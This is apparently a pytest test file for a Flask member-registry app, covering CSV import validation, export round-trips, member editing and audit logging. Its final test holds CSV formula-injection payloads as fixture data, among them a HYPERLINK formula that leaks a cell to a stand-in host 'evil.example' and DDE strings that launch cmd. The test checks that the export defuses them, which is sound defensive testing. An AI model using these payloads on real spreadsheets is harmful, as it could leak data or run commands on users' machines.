"""Member registry: admin form, CSV import (all or nothing) and export."""

from __future__ import annotations

import csv
import io

from flask.testing import FlaskClient
from sqlalchemy import func, select

from app.extensions import db
from app.models import AuditEvent, Member
from tests.conftest import post_form

HEADER = "slug,name_en,name_fr,province,region,setting,size_class,population,holder_type,clusters,active\r\n"
GOOD_ROWS = (
    "kingston,Kingston LIP,PLI de Kingston,ON,,urban,medium,\"172,000\",municipal,,yes\r\n"
    "whitehorse,Whitehorse LIP,PLI de Whitehorse,YT,bc_yukon,urban,small,30000,spo,northern;francophone,yes\r\n"
)


def count_members(app) -> int:
    with app.app_context():
        return db.session.scalar(select(func.count()).select_from(Member)) or 0


def upload(client: FlaskClient, text: str | bytes):
    data = text.encode("utf-8") if isinstance(text, str) else text
    return post_form(client, "/members/import", {"file": (io.BytesIO(data), "members.csv")},
                     content_type="multipart/form-data")


def test_import_good_file(app, client: FlaskClient, login) -> None:
    login("admin")
    before = count_members(app)
    response = upload(client, HEADER + GOOD_ROWS)
    assert response.status_code == 302
    assert count_members(app) == before + 2
    with app.app_context():
        kingston = db.session.scalar(select(Member).where(Member.slug == "kingston"))
        assert (kingston.region, kingston.population, kingston.active) == ("ontario", 172_000, True)
        whitehorse = db.session.scalar(select(Member).where(Member.slug == "whitehorse"))
        assert whitehorse.cluster_list == ["northern", "francophone"]
        event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "member.import"))
        assert event is not None and "kingston" in event.after_json


def test_import_with_bad_rows_imports_nothing_and_lists_each_problem(app, client: FlaskClient, login) -> None:
    login("admin")
    before = count_members(app)
    bad = HEADER + GOOD_ROWS + (
        "kingston,Kingston again,PLI,ON,,urban,medium,,spo,,yes\r\n"          # line 4: duplicate of line 2
        "halifax,Halifax LIP,PLI d'Halifax,NS,,urban,large,,municipal,,yes\r\n"  # line 5: already registered
        "atlantis,Atlantis LIP,PLI,XX,,urban,small,,spo,,yes\r\n"             # line 6: unknown province
        "moncton,Moncton LIP,PLI,NB,ontario,urban,small,,spo,,yes\r\n"        # line 7: region does not match
        f"longname,{'x' * 201},PLI,ON,,urban,small,,spo,,yes\r\n"              # line 8: overlong name
        "empty,,PLI,ON,,urban,small,,spo,,yes\r\n"                             # line 9: empty English name
        "bigtown,Big LIP,PLI,ON,,downtown,huge,-5,state,,maybe\r\n"            # line 10: five bad values
    )
    response = upload(client, bad)
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert "Nothing was imported" in page
    expected = [
        ("4", "Duplicate of line 2"),
        ("5", "already exists"),
        ("6", "Unknown province or territory"),
        ("7", "NB is in region atlantic, not ontario"),
        ("8", "At most 200 characters"),
        ("9", "This field is required"),
        ("10", "Unknown value &#39;downtown&#39;"),
        ("10", "Unknown value &#39;huge&#39;"),
        ("10", "Population served must be a whole number"),
        ("10", "Unknown value &#39;state&#39;"),
        ("10", "Active must be yes or no"),
    ]
    for line, message in expected:
        assert f"<td>{line}</td>" in page and message in page, (line, message)
    assert count_members(app) == before


def test_malformed_files_are_refused_with_a_reason(app, client: FlaskClient, login) -> None:
    login("admin")
    before = count_members(app)
    cases = {
        b"\xff\xfe\x00broken": "not UTF-8",
        b"": "",  # an empty upload is refused by the form itself
        b"name,colour\r\nx,y\r\n": "Missing columns",
        (HEADER.rstrip() + ",extra\r\n").encode(): "Unknown columns: extra",
        HEADER.encode(): "has a header but no members",
        (HEADER + "a-lip,A,B,ON,,urban,small,,spo,,yes,surplus\r\n").encode(): "more cells than the header",
    }
    for content, message in cases.items():
        response = upload(client, content)
        assert response.status_code == 422, content
        assert message in response.get_data(as_text=True), content
    assert count_members(app) == before


def test_export_round_trips_into_an_empty_registry(app, client: FlaskClient, login) -> None:
    login("admin")
    assert upload(client, HEADER + GOOD_ROWS).status_code == 302
    exported = client.get("/members/export.csv")
    assert exported.status_code == 200
    assert exported.headers["Content-Type"].startswith("text/csv")
    text = exported.get_data(as_text=True)
    assert text.startswith(HEADER)
    assert "whitehorse,Whitehorse LIP,PLI de Whitehorse,YT,bc_yukon,urban,small,30000,spo,northern;francophone,yes" in text
    with app.app_context():
        from app.members.csv_io import check_import

        check = check_import(text.encode(), existing_slugs=set())
        assert not check.problems
        assert [row["slug"] for row in check.rows] == ["bow-valley", "halifax", "kingston", "whitehorse"]


def test_create_edit_and_deactivate_a_member(app, client: FlaskClient, login) -> None:
    login("admin")
    form = {"slug": "greater-moncton", "name_en": "Greater Moncton LIP", "name_fr": "PLI du Grand Moncton",
            "province": "NB", "setting": "urban", "size_class": "medium", "population": "160000",
            "holder_type": "municipal", "clusters": "francophone", "active": "y"}
    assert post_form(client, "/members/new", form).status_code == 302
    duplicate = post_form(client, "/members/new", form)
    assert duplicate.status_code == 422 and "already exists" in duplicate.get_data(as_text=True)
    bad_slug = post_form(client, "/members/new", {**form, "slug": "Bad Slug!"})
    assert bad_slug.status_code == 422
    edited = post_form(client, "/members/greater-moncton/edit", {**form, "slug": "renamed", "name_en": "Moncton LIP", "province": "ON"})
    assert edited.status_code == 302
    with app.app_context():
        member = db.session.scalar(select(Member).where(Member.slug == "greater-moncton"))  # the identifier is permanent
        assert (member.name_en, member.province, member.region) == ("Moncton LIP", "ON", "ontario")
    assert post_form(client, "/members/greater-moncton/active", {"active": "0"}, token_from="/members/").status_code == 302
    with app.app_context():
        member = db.session.scalar(select(Member).where(Member.slug == "greater-moncton"))
        assert member.active is False
        actions = list(db.session.scalars(select(AuditEvent.action).order_by(AuditEvent.id)))
        assert actions == ["member.create", "member.update", "member.deactivate"]
    assert '<th scope="row">Moncton LIP' not in client.get("/members/").get_data(as_text=True)
    assert '<th scope="row">Moncton LIP' in client.get("/members/?inactive=1").get_data(as_text=True)
    assert client.get("/members/no-such-lip/edit").status_code == 404


FORMULAS = {
    "formula-eq": ("=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")", "PLI =1+1"),
    "formula-plus": ("+cmd|' /C calc'!A0", "PLI"),
    "formula-minus": ("-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "formula-tab": ("\t=1+1", "\r=1+1"),  # stored before names were checked: the export still defuses them
}


def test_export_defuses_formulas_and_the_import_restores_them(app, client: FlaskClient, login) -> None:
    from tests.conftest import add_member

    with app.app_context():
        for slug, (name_en, name_fr) in FORMULAS.items():
            add_member(slug, name_en=name_en, name_fr=name_fr, clusters="=tag;ok", population=4200)
        db.session.commit()
    login("admin")
    exported = client.get("/members/export.csv").get_data(as_text=True)
    rows = {row[0]: row for row in csv.reader(io.StringIO(exported, newline=""))}
    for slug, (name_en, name_fr) in FORMULAS.items():
        row = rows[slug]
        assert row[1] == "'" + name_en and row[2] == ("'" + name_fr if name_fr[0] in "=+-@\t\r" else name_fr)
        assert row[9] == "'=tag;ok"
        assert row[7] == "4200"  # numbers stay numbers
    for row in rows.values():  # no cell of the file starts a formula
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
    with app.test_request_context():
        from app.members.csv_io import check_import

        kept = io.StringIO()
        csv.writer(kept, lineterminator="\r\n").writerows(row for slug, row in rows.items() if slug != "formula-tab")
        check = check_import(kept.getvalue().encode(), existing_slugs=set())
    assert not check.problems, check.problems
    restored = {row["slug"]: (row["name_en"], row["name_fr"], row["clusters"]) for row in check.rows}
    for slug in ("formula-eq", "formula-plus", "formula-minus"):
        assert restored[slug] == (*FORMULAS[slug], "=tag;ok")
